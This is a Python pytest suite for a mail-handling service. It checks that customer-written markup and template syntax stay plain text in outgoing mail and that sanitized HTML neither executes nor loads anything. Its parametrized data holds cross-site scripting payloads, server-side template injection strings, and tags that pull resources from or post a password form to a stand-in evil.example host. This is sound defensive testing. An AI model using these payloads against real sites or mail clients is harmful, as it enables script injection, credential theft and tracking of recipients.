"""S10, S11: what a customer writes is shown as he wrote it; it is never markup, never a template."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from fakes.line import mail

from ingest.understand import understand
from models.mail import RawMail

NOW = datetime(2026, 11, 24, 15, 15, tzinfo=UTC)
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<style>*{background:url(https://t.evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TEMPLATES = [
    "{{7*7}}",
    "{% include 'layout/layout.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "%(desk_name)s",
    "{desk_name}",
    "{0.__class__}",
    "{{ config }}{# x #}",
]
OURS = {
    "html", "head", "meta", "title", "body", "div", "p", "br", "a", "table", "tr", "td", "tbody", "span", "blockquote",
    "ul", "ol", "li", "strong", "em", "b", "i", "h1", "h2", "h3", "hr", "style", "center", "small", "pre",
}  # fmt: skip


class Tags(HTMLParser):
    """Every element and attribute a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attributes):
        self.seen.append((tag, dict(attributes)))


def elements(text):
    tags = Tags()
    tags.feed(text)
    return tags.seen


def both_parts(sent):
    parts = {part.get_content_type(): part.get_payload(decode=True).decode() for part in sent.message.walk()
             if not part.is_multipart()}  # fmt: skip
    return parts["text/plain"], parts["text/html"]


@pytest.mark.parametrize("markup", MARKUP)
def test_markup_in_subject_name_and_words_is_text_in_every_mail_of_ours(line, markup):
    words = f"Our campaign 881204 shows {markup} on https://northwind.example/<script> today."
    quoted = markup.replace('"', '\\"')
    line.play(mail(words, sender=f'"{quoted}" <ana@northwind.example>', subject=f"Look: {markup}"))
    assert line.told("maria@desk.example")
    assert line.to_customers
    for sent in line.sent:
        _, page = both_parts(sent)
        for tag, attributes in elements(page):
            assert tag in OURS, tag
            assert not [name for name in attributes if name.startswith("on")]
            link = attributes.get("href") or attributes.get("src") or ""
            assert not re.match(r"\s*(javascript|data|vbscript):", link, re.IGNORECASE)
            assert "evil.example" not in str({**attributes, "href": ""})


@pytest.mark.parametrize("template", TEMPLATES)
def test_template_words_of_a_customer_stand_verbatim_in_every_mail_of_ours(line, template):
    line.play(
        mail(f"We see {template} here.", sender=f'"{template}" <ana@northwind.example>', subject=f"See {template}")
    )
    [ack] = line.to_customers
    [told] = line.told("maria@desk.example")
    for sent in (ack, told):
        text, _ = both_parts(sent)
        assert template in text


HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src='cid:a' onerror='alert(1)'>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<a href='jav&#x09;ascript:alert(1)'>click</a>",
    "<a href=' &#14;  javascript:alert(1)'>click</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<video poster=https://evil.example/p.png><source src=https://evil.example/v></video>",
    "<input onfocus=alert(1) autofocus>",
    "<body onload=alert(1) background=https://evil.example/b.png>",
    "<table background=https://evil.example/b.png><tr><td>x</td></tr></table>",
    "<img srcset='https://evil.example/a 1x'>",
    "<p><style>@import 'https://evil.example/x.css';</style></p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
]


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
def test_the_cleaned_html_runs_nothing_and_loads_nothing(policy, hostile):
    content = (
        "From: ana@northwind.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<html><body><p>Hello there.</p>{hostile}<p>Bye.</p></body></html>\r\n"
    )
    seen = understand(RawMail(content.encode(), NOW), policy)
    assert "Hello there." in seen.mail.text
    for tag, attributes in elements(seen.mail.html or ""):
        assert tag not in ("script", "iframe", "object", "embed", "meta", "link", "base", "form", "svg", "math", "style",
                           "template", "noscript", "input", "button", "video", "source")  # fmt: skip
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("srcdoc", "formaction", "background", "poster", "srcset")
            plain = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            assert not plain.startswith(("javascript:", "vbscript:", "data:text"))
            if name == "src":
                assert not plain.startswith(("http", "//", "ftp"))
            if name == "style":
                assert "url(" not in plain
                assert "expression" not in plain
